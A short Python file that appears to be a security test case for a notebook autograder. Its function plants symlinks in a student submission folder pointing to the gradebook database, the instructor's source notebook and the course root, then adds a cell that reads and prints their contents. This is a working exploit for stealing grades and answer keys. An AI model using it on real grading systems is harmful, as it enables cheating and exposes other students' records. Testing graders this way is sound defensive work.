# tries: links handed in that point to the gradebook, the sources and the secret
# mark: 19
# nowhere: SQLite
# nowhere: BEGIN HIDDEN
def attack(notebook, folder):
    from nbformat.v4 import new_code_cell
    root = folder.parents[2]
    (folder / "data.csv").symlink_to(root / "gradebook.db")
    (folder / "more.csv").symlink_to("../../../source/ps/ps.ipynb")
    (folder / "all").symlink_to(root)
    text = "import glob\nfor f in glob.glob('**', recursive=True) + ['data.csv', 'more.csv', 'all/gradebook.db']:\n"
    text += "    try: print(f, open(f, errors='replace').read()[:3000])\n    except OSError as e: print(e)"
    notebook.cells.append(new_code_cell(text))
